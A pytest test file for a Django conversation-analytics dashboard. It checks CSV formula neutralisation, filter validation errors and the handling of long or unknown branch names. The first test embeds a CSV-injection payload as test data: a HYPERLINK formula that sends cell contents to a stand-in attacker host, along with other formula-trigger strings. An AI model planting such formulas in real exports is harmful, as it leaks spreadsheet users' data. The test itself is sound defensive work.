"""Bad input and hostile content on the dashboard: an error where the user is, data as it was."""

import csv
import io

import pytest
from django.urls import reverse

from convstore import conversations
from convstore.models import AgentSession, Branch, MessageStructure
from tests import dashboard_data as data
from tests.dashboard_data import client_for

pytestmark = pytest.mark.django_db


# --- exports are safe to open in a spreadsheet ----------------------------------------


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(viewer):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    conversations.append_items(
        session_id="hostile",
        items=[
            {"role": "user", "content": formula},
            {"type": "function_call", "call_id": "c", "name": "=1+1", "arguments": "@SUM(1)"},
            {"type": "function_call_output", "call_id": "c", "output": "-2+3"},
            {"role": "assistant", "content": "\tTabbed"},
            {"role": "assistant", "content": "\rReturned"},
            {"role": "assistant", "content": "+plus"},
            {"role": "assistant", "content": "plain = fine"},
        ],
    )
    client = client_for(viewer)

    response = client.get(reverse("analytics:export_csv", args=["hostile"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]
    cells = [(row[4], row[5]) for row in rows]
    assert cells == [
        ("", "'" + formula),
        ("'=1+1", "'@SUM(1)"),
        ("", "'-2+3"),
        ("", "'\tTabbed"),
        ("", "'\rReturned"),
        ("", "'+plus"),
        ("", "plain = fine"),
    ]
    exported = client.get(reverse("analytics:export_json", args=["hostile"])).json()
    assert exported["items"][0]["item"]["content"] == formula


# --- bad input shows an error where the user is ---------------------------------------


@pytest.mark.parametrize(
    ("url", "query", "error"),
    [
        ("analytics:conversations", {"q": "x" * 201}, "Search: Ensure this value has at most 200"),
        ("analytics:conversations", {"sort": "nonsense"}, "Sort: Select a valid choice"),
        ("analytics:audit", {"actor": "x" * 151}, "Who: Ensure this value has at most 150"),
        ("analytics:audit", {"action": "nonsense"}, "Action: Select a valid choice"),
    ],
)
@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
def test_a_bad_filter_shows_its_error_and_no_rows(chat, viewer, url, query, error, htmx):
    headers = {"HX-Request": "true"} if htmx else {}
    response = client_for(viewer).get(reverse(url), query, headers=headers)

    body = response.content.decode()
    assert response.status_code == 200
    assert error in body
    assert "chat-1" not in body and "<tbody>" not in body


def test_the_audit_filter_takes_a_conversation_id_of_any_length(viewer):
    long_id = "c" * 600
    data.conversation(long_id, turns=2)
    conversations.fork(session_id=long_id, turn_number=2, branch_name="retry")
    data.conversation("other", turns=2)
    conversations.fork(session_id="other", turn_number=2, branch_name="elsewhere")

    body = client_for(viewer).get(reverse("analytics:audit"), {"conversation": long_id})
    page = body.content.decode()
    assert "retry" in page and "elsewhere" not in page


def test_a_branch_stored_with_a_name_longer_than_new_ones_may_have_is_usable(purger):
    """Branches made before the write layer's limit, or by an older version, stay usable."""
    name = "n" * 600
    data.conversation("chat", turns=2)
    conversations.fork(session_id="chat", turn_number=2, branch_name="short")
    MessageStructure.objects.filter(branch_id="short").update(branch_id=name)
    Branch.objects.filter(branch_id="short").update(branch_id=name)
    client = client_for(purger)

    page = client.get(reverse("analytics:conversation", args=["chat"]), {"branch": name})
    assert page.status_code == 200
    compare = reverse("analytics:compare", args=["chat"])
    assert client.get(compare, {"a": "main", "b": name}).status_code == 200
    client.post(reverse("analytics:make_active", args=["chat"]), {"branch": name})
    assert AgentSession.objects.get(pk="chat").active_branch_id == name
    client.post(reverse("analytics:make_active", args=["chat"]), {"branch": "main"})
    response = client.post(reverse("analytics:delete_branch", args=["chat"]), {"branch": name})
    assert response.status_code == 302
    assert Branch.objects.get(session_id="chat", branch_id=name).deleted_at is not None


def test_forking_with_a_name_over_the_limit_says_so(chat, editor):
    url = reverse("analytics:fork", args=[chat])
    body = {"branch": "main", "turn": 2, "name": "n" * 201}

    response = client_for(editor).post(url, body, follow=True)

    assert response.status_code == 200
    assert "Branch name is 201 characters long; at most 200 are allowed" in (
        response.content.decode()
    )
    assert not Branch.objects.filter(branch_id="n" * 201).exists()


@pytest.mark.parametrize("action", ["fork", "make_active", "delete_branch"])
@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
def test_an_unknown_branch_is_reported_on_the_conversation_page(chat, editor, action, htmx):
    url = reverse(f"analytics:{action}", args=[chat])
    headers = {"HX-Request": "true"} if htmx else {}

    response = client_for(editor).post(
        url, {"branch": "nope", "turn": 2}, headers=headers, follow=not htmx
    )

    assert response.status_code == 200
    body = response.content.decode()
    assert "Refund for order 42" in body
    assert "nope" in body and 'class="message error"' in body


def test_a_fork_form_without_a_turn_says_which_field(chat, editor):
    response = client_for(editor).post(
        reverse("analytics:fork", args=[chat]), {"branch": "main"}, follow=True
    )
    assert "Turn: This field is required." in response.content.decode()
